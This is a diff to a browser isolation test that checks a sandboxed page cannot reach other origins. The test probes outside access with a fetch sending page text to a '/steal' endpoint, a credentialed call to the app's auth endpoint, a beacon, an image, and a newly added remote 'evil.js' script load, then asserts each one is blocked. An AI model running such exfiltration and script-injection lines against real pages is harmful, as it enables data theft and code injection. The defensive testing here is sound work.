@@ -83,6 +83,13 @@ async function proveIsolation(page) {
         elsewhere: await tryFetch(`${target}/steal?what=${encodeURIComponent(document.body.innerText.slice(0, 50))}`),
         ownOrigin: await tryFetch('/api/v1/auth/me', { credentials: 'include' }),
         beacon: navigator.sendBeacon(`${target}/beacon`, 'x'),
+        script: await new Promise((resolve) => {
+          const script = document.createElement('script');
+          script.onload = () => resolve('loaded');
+          script.onerror = () => resolve('blocked');
+          script.src = `${target}/evil.js`;
+          document.head.append(script);
+        }),
         image: await new Promise((resolve) => {
           const image = new Image();
           image.onload = () => resolve('loaded');
@@ -99,6 +106,7 @@ async function proveIsolation(page) {
     if (!seen.elsewhere.startsWith('blocked') || !seen.ownOrigin.startsWith('blocked'))
       throw new Error(`expected requests off the gateway to be blocked: ${JSON.stringify(seen)}`);
     expectEqual(seen.image, 'blocked', 'a remote image');
+    expectEqual(seen.script, 'blocked', 'a script from another origin');
 
     // Another app of the same creator, on its own origin in the same browser: none of the visitor's tokens.
     const other = await page.context().newPage();
